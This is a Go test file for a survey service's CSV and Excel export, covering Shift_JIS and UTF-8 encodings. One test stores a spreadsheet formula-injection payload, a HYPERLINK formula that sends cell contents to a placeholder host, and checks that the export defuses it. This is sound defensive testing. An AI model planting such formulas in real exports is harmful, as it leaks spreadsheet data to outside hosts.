package survey_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/japanese"

	"jpkipilot/survey"
	"jpkipilot/trial/store"
	"jpkipilot/trial/store/storetest"
)

var excelizeRaw = excelize.Options{RawCellValue: true}

func exportCSV(t *testing.T, svc *survey.Service, opt survey.ExportOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	var lastDone, lastTotal int
	if err := svc.ExportCSV(context.Background(), &buf, opt, func(d, n int) { lastDone, lastTotal = d, n }); err != nil {
		t.Fatal(err)
	}
	if lastDone != lastTotal || lastTotal == 0 {
		t.Fatalf("progress ended at %d/%d", lastDone, lastTotal)
	}
	return buf.Bytes()
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	return recs
}

// TestExportCSV reads both encodings back and compares them with the Data
// sheet of the workbook: same header, same rows, same values.
func TestExportCSV(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		svc, fx := seeded(t, db)
		info, err := svc.Latest(ctx, "ticket_entry")
		if err != nil {
			t.Fatal(err)
		}
		r, err := svc.Start(ctx, info.Ref, survey.Subject{MonitorID: "M-0001", TrialID: &fx.trialID, Step: "entry"})
		if err != nil {
			t.Fatal(err)
		}
		comment := "読み取り完了が分かりにくい、\"音\"が欲しい,\n二行目"
		for _, a := range [][2]string{{"convenience", "2"}, {"reasons", "pinless_worry where_to_hold"}, {"comment", comment}} {
			if err := svc.SaveAnswer(ctx, r.ID, a[0], a[1]); err != nil {
				t.Fatal(err)
			}
		}
		opt := survey.ExportOptions{Filter: survey.Filter{TrialID: &fx.trialID}, Location: time.UTC}
		_, x := export(t, svc, opt)
		data, err := x.GetRows("Data", excelizeRaw)
		if err != nil {
			t.Fatal(err)
		}

		utf := exportCSV(t, svc, opt)
		if !bytes.HasPrefix(utf, []byte("\xEF\xBB\xBF")) {
			t.Fatalf("UTF-8 CSV starts % x, want a BOM", utf[:3])
		}
		recs := readCSV(t, utf[3:])
		if len(recs) != len(data) {
			t.Fatalf("CSV has %d records, Data sheet %d rows", len(recs), len(data))
		}
		if got, want := strings.Join(recs[0], ","), strings.Join(data[0], ","); got != want {
			t.Fatalf("CSV header\n%s\nData header\n%s", got, want)
		}
		hdr := recs[0]
		col := func(name string) int {
			for i, h := range hdr {
				if h == name {
					return i
				}
			}
			t.Fatalf("no column %s", name)
			return -1
		}
		var row []string
		for _, rec := range recs[1:] {
			if rec[0] == fmt.Sprint(r.ID) {
				row = rec
			}
		}
		if row == nil {
			t.Fatalf("response %d not in the CSV", r.ID)
		}
		for name, want := range map[string]string{"monitor_id": "M-0001", "step": "entry", "convenience": "2",
			"reasons": "where_to_hold pinless_worry", "reasons/pinless_worry": "1", "reasons/where_to_hold": "1",
			"reasons/card_loss": "0", "comment": comment, "completed_at": ""} {
			if got := row[col(name)]; got != want {
				t.Errorf("%s = %q, want %q", name, got, want)
			}
		}
		if _, err := time.Parse("2006-01-02 15:04:05", row[col("started_at")]); err != nil {
			t.Errorf("started_at = %q: %v", row[col("started_at")], err)
		}
		// Numbers and codes agree with the workbook's Data sheet, cell by
		// cell, for every column that is not a date.
		for i, rec := range recs[1:] {
			for j, h := range hdr {
				if strings.HasSuffix(h, "_at") || j >= len(data[i+1]) {
					continue
				}
				if _, err := time.Parse("2006-01-02", rec[j]); err == nil {
					continue // a date: a serial number in the workbook
				}
				if rec[j] != data[i+1][j] {
					t.Fatalf("row %d %s: CSV %q, Data %q", i+1, h, rec[j], data[i+1][j])
				}
			}
		}

		opt.Encoding = "sjis"
		sj := exportCSV(t, svc, opt)
		if bytes.HasPrefix(sj, []byte("\xEF\xBB\xBF")) {
			t.Fatal("Shift_JIS CSV starts with a UTF-8 BOM")
		}
		if bytes.Contains(sj, []byte("読み取り")) {
			t.Fatal("Shift_JIS CSV holds UTF-8 text")
		}
		dec, err := japanese.ShiftJIS.NewDecoder().Bytes(sj)
		if err != nil {
			t.Fatal(err)
		}
		if got, want := readCSV(t, dec), recs; fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("Shift_JIS CSV decodes to\n%v\nwant\n%v", got, want)
		}

		// A character Shift_JIS lacks is named with its response and variable.
		if err := svc.SaveAnswer(ctx, r.ID, "comment", "使いやすい🙂"); err != nil {
			t.Fatal(err)
		}
		err = svc.ExportCSV(ctx, &bytes.Buffer{}, opt, nil)
		if !errors.Is(err, survey.ErrNoShiftJIS) || !strings.Contains(err.Error(), fmt.Sprintf("response %d, variable comment", r.ID)) ||
			!strings.Contains(err.Error(), "U+1F642") {
			t.Fatalf("Shift_JIS export of an emoji: %v", err)
		}
		opt.Encoding = "latin1"
		if err := svc.ExportCSV(ctx, &bytes.Buffer{}, opt, nil); err == nil || !strings.Contains(err.Error(), "latin1") {
			t.Fatalf("unknown encoding: %v", err)
		}
	})
}

// A free-text answer that a spreadsheet would run as a formula reaches the
// CSV behind an apostrophe, in both encodings, and the workbook as text
// (an inline string, never a formula cell).
func TestExportDefusesFormulaAnswers(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		ctx := context.Background()
		svc, fx := seeded(t, db)
		info, err := svc.Latest(ctx, "ticket_entry")
		if err != nil {
			t.Fatal(err)
		}
		attack := `=HYPERLINK("http://example.invalid/?"&A1,"詳細")`
		r, err := svc.Start(ctx, info.Ref, survey.Subject{MonitorID: "M-0002", TrialID: &fx.trialID, Step: "entry"})
		if err != nil {
			t.Fatal(err)
		}
		for _, a := range [][2]string{{"convenience", "4"}, {"comment", attack}} {
			if err := svc.SaveAnswer(ctx, r.ID, a[0], a[1]); err != nil {
				t.Fatal(err)
			}
		}
		opt := survey.ExportOptions{Filter: survey.Filter{TrialID: &fx.trialID}, Location: time.UTC}
		for _, enc := range []string{"", "sjis"} {
			opt.Encoding = enc
			b := exportCSV(t, svc, opt)
			if enc == "sjis" {
				if b, err = japanese.ShiftJIS.NewDecoder().Bytes(b); err != nil {
					t.Fatal(err)
				}
			} else {
				b = bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF"))
			}
			recs := readCSV(t, b)
			comment := -1
			for i, h := range recs[0] {
				if h == "comment" {
					comment = i
				}
			}
			found := false
			for _, rec := range recs[1:] {
				if rec[0] == fmt.Sprint(r.ID) {
					found = true
					if got := rec[comment]; got != "'"+attack {
						t.Errorf("%q CSV: comment %q, want it behind an apostrophe", enc, got)
					}
				}
				for j, f := range rec {
					if f != "" && strings.ContainsRune("=+@", rune(f[0])) {
						t.Errorf("%q CSV: %s = %q starts a formula", enc, recs[0][j], f)
					}
				}
			}
			if !found {
				t.Fatalf("%q CSV: response %d missing", enc, r.ID)
			}
		}
		opt.Encoding = ""
		_, x := export(t, svc, opt)
		rows, err := x.GetRows("Data")
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				if v != attack {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, err := x.GetCellFormula("Data", cell); err != nil || f != "" {
					t.Fatalf("Data %s is a formula %q (%v)", cell, f, err)
				}
				if typ, err := x.GetCellType("Data", cell); err != nil || typ != excelize.CellTypeInlineString {
					t.Fatalf("Data %s has type %v (%v), want an inline string", cell, typ, err)
				}
				return
			}
		}
		t.Fatal("the answer is not on the Data sheet as typed")
	})
}
